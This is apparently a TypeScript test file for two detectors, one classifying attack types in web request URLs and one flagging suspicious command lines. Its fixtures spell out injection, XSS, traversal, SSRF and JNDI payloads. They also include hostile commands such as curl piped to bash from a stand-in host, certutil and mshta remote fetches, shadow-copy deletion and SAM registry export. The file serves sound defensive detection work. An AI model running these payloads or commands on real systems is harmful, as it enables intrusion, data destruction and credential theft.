import { describe, expect, it } from "vitest";
import { commandSign } from "./records/commands.ts";
import { attackIn } from "./records/web-requests.ts";

describe("attackIn", () => {
  it.each([
    ["/item.php?id=1%27%20UNION%20SELECT%201,2--", "SQL injection"],
    ["/item?id=1'%20or%20'1'='1", "SQL injection"],
    ["/q?x=1%3BWAITFOR%20DELAY%20'0:0:5'", "SQL injection"],
    ["/ping?host=1.1.1.1;cat%20/etc/hostname", "command injection"],
    ["/video/?c=whoami", "command injection"],
    ["/s?q=%253Cscript%253Ealert(1)%253C/script%253E", "cross-site scripting"],
    ["/s?q=<img src=x onerror=prompt(8)>", "cross-site scripting"],
    ["/download?f=..%2f..%2f..%2fetc%2fpasswd", "path traversal or file inclusion"],
    ["/page?file=php://filter/convert.base64-encode/resource=index", "path traversal or file inclusion"],
    ["/fetch?u=http://169.254.169.254/latest/meta-data/", "server-side request forgery"],
    [`/?x=$${"{jndi:ldap://203.0.113.5/a}"}`, "code or template injection"],
    ["/?name={{7*7}}", "code or template injection"],
  ])("%s is %s", (url, type) => expect(attackIn(url)).toBe(type));
  it.each([
    ["/"],
    ["/search?q=union+jack+and+select+committee"],
    ["/search?q=how+to+order+by+phone"],
    ["/catalogue?item=7&sort=price"],
    ["/article/2024/05/cats-and-dogs?ref=home"],
    ["/login?next=/account/settings"],
    ["/api/v1/users?id=12&id=13"],
    ["/q?text=Tom+%26+Jerry;+or+not"],
    ["/users?sort=id"],
    ["/feed;type=rss;id=7"],
    ["/run?job=nightly&type=full"],
    ["/%E4%BD%A0%E5%A5%BD?x=%FF%FE"],
  ])("%s is ordinary", (url) => expect(attackIn(url)).toBeUndefined());
  it("is quick on long hostile text", () => {
    const started = process.cpuUsage();
    for (const text of [
      "%25".repeat(100_000),
      "' or ".repeat(20_000),
      "<".repeat(50_000),
      "../".repeat(30_000),
      "union ".repeat(20_000),
    ])
      attackIn(text);
    expect(process.cpuUsage(started).user).toBeLessThan(2_000_000);
  });
});

describe("commandSign", () => {
  it.each([
    ["POwersheLL -ENCOD cwBlAHQALQBpAHQAZQBtACAAdgBh", "an encoded PowerShell command"],
    ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "an encoded PowerShell command"],
    ["cmd /c certutil -urlcache -f http://203.0.113.5/a a.exe", "a download by script"],
    ["mshta http://203.0.113.5/x.hta", "a program of the system that runs foreign script"],
    ["sh -c curl -s http://203.0.113.5/i | bash", "a shell fed from the network"],
    ["vssadmin.exe delete shadows /all /quiet", "means of recovery removed"],
    ["reg save HKLM\\SAM C:\\t\\sam", "secrets taken from memory or the registry"],
  ])("%s: %s", (command, words) => expect(commandSign(command)?.words).toBe(words));
  it.each([
    ["powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Agent\\collect.ps1"],
    ["chrome.exe --type=renderer --enable-features=x"],
    ["curl.exe https://updates.example/feed.json -o feed.json"],
    ["schtasks /query /tn backup"],
    ["net use \\\\srv\\share"],
  ])("%s is ordinary", (command) => expect(commandSign(command)).toBeUndefined());
});
